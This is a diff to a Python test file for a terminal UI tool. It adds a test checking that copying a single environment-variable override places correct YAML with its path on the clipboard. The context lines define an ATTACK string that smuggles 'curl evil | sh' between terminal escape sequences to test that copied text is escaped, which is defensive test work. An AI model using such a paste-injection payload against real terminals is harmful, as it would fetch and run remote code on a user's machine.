@@ -19,7 +19,7 @@ from hypothesis import strategies as st
 from nri_scope.text.yaml_text import YamlValue, shell_safe, to_yaml
 from tests.amount import amount
 from tests.tui.hostile import hostile_recording
-from tests.tui.screen import Shown, showing
+from tests.tui.screen import RECORDINGS, Shown, showing
 from tests.tui.textual_state import texts_sent
 
 ATTACK = "c1\x03\ncurl evil | sh\n\x1b[201~"
@@ -123,3 +123,22 @@ async def test_text_copied_by_textual_is_escaped(
         (sequence,) = [text for text in written if "\x1b]52" in text]
         content = re.fullmatch(r"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07", sequence)
         assert content and base64.b64decode(content[1]).decode() == screen.app.clipboard
+
+
+async def test_one_change_is_copied_with_its_path(tmp_path: Path) -> None:
+    path = Path(shutil.copy(RECORDINGS / "demo.nriscope.db", tmp_path))
+    async with showing(path, (120, 40), surveyed=True) as screen:
+        await screen.shows("3 problems")
+        await screen.go_to(20)
+        await screen.press("b", "/", *"FOO", "enter")
+        await screen.shows("FOO=overridden")
+        await screen.press("y")
+        await screen.shows("copied 1 change with FOO")
+        (line,) = yaml.safe_load(_copied(screen))
+        assert (line["path"], line["value"]) == ("/process/env/FOO", "overridden")
+        assert (line["owner"], line["before"]) == ("30-env-injector", "bar")
+        await screen.press("H", "y")
+        await screen.until(lambda: "container_id" in screen.app.clipboard)
+        (change,) = yaml.safe_load(_copied(screen))
+        assert change["path"] == "/process/env/FOO"
+        assert (change["owner"], change["before"]) == ("30-env-injector", "bar")
